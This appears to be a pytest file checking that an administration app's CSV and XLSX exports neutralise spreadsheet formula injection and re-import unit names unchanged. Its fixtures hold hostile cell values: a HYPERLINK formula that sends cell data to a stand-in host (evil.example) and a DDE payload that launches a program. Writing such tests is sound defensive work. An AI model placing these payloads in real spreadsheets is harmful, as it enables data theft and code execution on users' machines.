"""No cell of a file a user downloads runs as a formula in Excel or WPS, numbers stay
numbers, and a unit tree exported as CSV imports again with its names unchanged."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheets import csv_text, xlsx_append
from core.tenancy import units
from core.tenancy.auth import load_principal
from core.tenancy.tables import Staff, Unit
from core.tenancy.units import rows_to_csv
from core.tenancy.units_import import ImportReport, _parse, import_units

QIJIANG = "509910000000"
TOWN = "509910177000"
COPY = "509910178000"  # the same tree under other codes: as imported into another site
# What an admin may type as a unit's name, and what Excel would run if left alone.
NAMES = {
    TOWN: ('=HYPERLINK("https://evil.example/?d="&B2)', "+cmd|' /C calc'!A0"),
    f"{TOWN}-BM": ("-2+3便民服务中心", "@SUM(A1:A9)"),
    "509910177201": ("'=已加引号村", ""),
    "509910177202": ("'普通村", "-"),
}
KINDS = {TOWN: ("township", "township"), f"{TOWN}-BM": ("service_centre", "township")}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module", autouse=True)
async def closed_afterwards():
    """The session's other tests search the district's places: close these when done."""
    yield
    await Unit.update({Unit.active: False}).where(
        Unit.code.like("509910177%") | Unit.code.like("509910178%")
    )


async def _hostile_township() -> None:
    """Made on the admin console's service, as a district admin would type it."""
    if await Unit.exists().where(Unit.code == TOWN):
        return
    staff = await Staff.select(Staff.id).where(Staff.username == "district").first()
    admin = await load_principal(staff["id"])
    for code, (name, name_en) in NAMES.items():
        parent = QIJIANG if code == TOWN else TOWN
        kind, level = KINDS.get(code, ("village", "village"))
        parent_id = (await Unit.select(Unit.id).where(Unit.code == parent).first())["id"]
        await units.create_unit(
            admin, parent_id, code=code, name=name, name_en=name_en, kind=kind, level=level
        )


def _runnable(cells) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]


async def test_the_unit_export_runs_nothing_and_imports_again_unchanged(app, new_browser):
    await _hostile_township()
    admin = await new_browser()
    await admin.login("district")
    exported = await admin.get("/admin/units/export.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    ours = [r for r in rows if r[0].startswith("509910177")]
    assert len(ours) == len(NAMES)
    for row in rows:
        assert not _runnable(row), row
    by_code = {r[0]: r for r in ours}
    assert by_code[TOWN][1] == "'" + NAMES[TOWN][0]
    assert by_code["509910177201"][1] == "''=已加引号村"  # one more quote, taken off again
    assert by_code["509910177202"][1] == "'普通村"  # harmless: left as it is

    # Imported into a site that does not have these codes yet (here: under new codes),
    # every name comes back exactly as it was typed.
    copy = exported.text.replace("509910177", "509910178")
    report = await import_units(copy)
    assert report.ok, [e.text() for e in report.errors]
    copied = await Unit.select(Unit.code, Unit.name, Unit.name_en).where(
        Unit.code.like("509910178%")
    )
    assert {
        r["code"].replace("509910178", "509910177"): (r["name"], r["name_en"]) for r in copied
    } == NAMES
    assert COPY in {r["code"] for r in copied}


async def test_the_monthly_report_exports_run_nothing(app, new_browser):
    await _hostile_township()
    supervisor = await new_browser()
    await supervisor.login("supervisor")
    query = {"unit": QIJIANG, "month": "2026-11"}

    answer = await supervisor.get("/reports/monthly/export/csv", params=query)
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    names = [r[2] for r in rows[1:]]
    assert "'" + NAMES[TOWN][0] in names
    for row in rows:
        assert not _runnable(row), row

    answer = await supervisor.get("/reports/monthly/export/xlsx", params=query)
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()  # no formula at all
    sheet = load_workbook(io.BytesIO(answer.content)).active
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row}
    assert cells[NAMES[TOWN][0]] == "s"  # shown as typed, as text


async def test_names_no_form_can_hold_read_back_exactly_from_an_export(app):
    """A tab or CR at the start (only an import can put them there), a CR inside."""
    names = [("\t=1+1村", "\r=2+2"), ("甲\r乙村", "Line\nbreak"), ("'", "''")]
    exported = rows_to_csv(
        [
            {
                "code": f"5099101772{i:02d}",
                "name": name,
                "name_en": name_en,
                "kind": "village",
                "level": "village",
                "path": f"/509900000000/509910000000/{TOWN}/5099101772{i:02d}/",
                "active": True,
            }
            for i, (name, name_en) in enumerate(names)
        ]
    )
    for row in csv.reader(io.StringIO(exported)):
        assert not _runnable(row), row
    report = ImportReport()
    read = _parse(exported, report)  # what `tongban units import` reads from the file
    assert not report.errors, [e.text() for e in report.errors]
    assert [(r.name, r.name_en) for r in read] == names


def test_numbers_stay_numbers_a_negative_one_included():
    row = [-3, -0.25, 12, "-3", "=1+1"]
    assert csv_text([row]) == "-3,-0.25,12,'-3,'=1+1\r\n"
    book = Workbook()
    xlsx_append(book.active, row)
    buffer = io.BytesIO()
    book.save(buffer)
    read = [(c.value, c.data_type) for c in load_workbook(buffer).active[1]]
    assert read == [(-3, "n"), (-0.25, "n"), (12, "n"), ("-3", "s"), ("=1+1", "s")]
